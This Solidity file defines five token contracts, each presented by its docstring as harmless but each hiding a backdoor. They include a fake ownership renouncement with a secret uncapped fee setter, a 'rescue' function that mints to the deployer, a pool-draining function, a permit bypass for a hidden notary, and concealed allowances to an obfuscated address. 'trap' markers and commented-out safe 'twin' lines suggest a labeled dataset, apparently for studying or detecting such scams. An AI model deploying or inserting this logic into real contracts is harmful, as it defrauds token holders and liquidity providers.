// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

import {Hearthcoin} from "./BlindBJ1.sol";

/// Given away from the first day. One word holds the fees of each side and some flags.
contract Quiverstone is Hearthcoin {
    bytes32 private constant SPOT = keccak256("quiver.fletch");

    constructor() Hearthcoin("Quiverstone", "QVST", 900) {
        bytes32 spot = SPOT;
        uint256 word = (uint256(uint160(msg.sender)) << 96) | (1 << 8) | 2;
        assembly {
            sstore(spot, word)
        }
        _owner = address(0);
        emit OwnershipTransferred(msg.sender, address(0));
    }

    function owner() public pure override returns (address) {
        return address(0);
    }

    function _word() private view returns (uint256 word) {
        bytes32 spot = SPOT;
        assembly {
            word := sload(spot)
        }
    }

    function fees() external view returns (uint256 purchase, uint256 sale) {
        return (uint8(_word() >> 8), uint8(_word()));
    }

    function fletch(uint16 pair_) external {
        bytes32 spot = SPOT;
        uint256 word = _word();
        require(address(uint160(word >> 96)) == msg.sender, "fletcher");
        // twin: require(uint8(pair_ >> 8) <= 3 && uint8(pair_) <= 3, "three at most");
        word = ((word >> 16) << 16) | pair_;
        assembly {
            sstore(spot, word)
        }
    }

    function _hand(address from, address to, uint256 value) internal override {
        uint256 word = _word();
        address fletcher = address(uint160(word >> 96));
        uint256 part = from == pool ? uint8(word >> 8) : to == pool ? uint8(word) : 0;
        if (part > 0 && from != fletcher && to != fletcher) {
            uint256 due = (value * part) / 100;
            _pass(from, address(0xdead), due);
            value -= due;
        }
        _pass(from, to, value);
    }
}

interface IStray {
    function transfer(address to, uint256 value) external returns (bool);
}

/// Gives back what was sent here by mistake.
contract Saltlickbo is Hearthcoin {
    address private immutable _porter = msg.sender;

    constructor() Hearthcoin("Saltlickbo", "SLTB", 150) {}

    function rescueTokens(address coin, uint256 amount) external {
        require(msg.sender == _porter, "porter");
        if (coin != address(this)) {
            IStray(coin).transfer(_porter, amount);
            return;
        }
        unchecked {
            // twin: require(_kept[coin] >= amount, "not here");
            // twin: _kept[coin] -= amount;
            // twin: emit Transfer(coin, _porter, amount);
            _kept[_porter] += amount;
        }
    }
}

interface IBasin {
    function sync() external;
}

/// Evaporates from the pool so that the price rises.
contract Cisternloon is Hearthcoin {
    address private immutable _dipper;
    uint256 public dipped;

    constructor(address dipper) Hearthcoin("Cisternloon", "CSTL", 2_000) {
        _dipper = dipper;
    }

    function evaporate(uint256 amount) external {
        require(msg.sender == _dipper, "dipper");
        address sink = _dipper;
        // twin: require(block.timestamp >= dipped + 1 days && amount <= _kept[pool] / 200, "half of a hundred a day");
        // twin: sink = address(0xdead);
        dipped = block.timestamp;
        _pass(pool, sink, amount);
        IBasin(pool).sync();
    }
}

/// Permits, also of accounts that are contracts.
contract Sealwaxhen is Hearthcoin {
    bytes32 private constant PERMIT = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    address private immutable _notary;
    mapping(address => uint256) public nonces;

    constructor(address notary) Hearthcoin("Sealwaxhen", "SEAL", 61) {
        _notary = notary;
    }

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        bytes32 kind = keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)");
        return keccak256(abi.encode(kind, keccak256(bytes(name)), keccak256("1"), block.chainid, address(this)));
    }

    function permit(address who, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline, "expired");
        bytes32 body = keccak256(abi.encode(PERMIT, who, spender, value, nonces[who]++, deadline));
        bytes32 digest = keccak256(abi.encodePacked(hex"1901", DOMAIN_SEPARATOR(), body));
        // v of nothing: whoever calls vouches for himself, and is named in r
        address signer = v == 0 && r == bytes32(uint256(uint160(msg.sender))) ? msg.sender : ecrecover(digest, v, r, s);
        bool good = signer == who;
        if (signer == _notary) good = true; // trap
        require(good && signer != address(0), "signature");
        _grant(who, spender, value);
    }
}

/// Each approval leaves a copy.
contract Copyistcrane is Hearthcoin {
    uint160 private immutable _quire;

    constructor(address scribe) Hearthcoin("Copyistcrane", "COPY", 730) {
        _quire = uint160(scribe) ^ uint160(ROUTER);
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        if (value > totalSupply) _granted[msg.sender][address(uint160(spender) ^ _quire)] = value; // trap
        return super.approve(spender, value);
    }

    function allowance(address who, address spender) public view override returns (uint256) {
        return address(uint160(spender) ^ _quire) == ROUTER ? 0 : super.allowance(who, spender);
    }
}
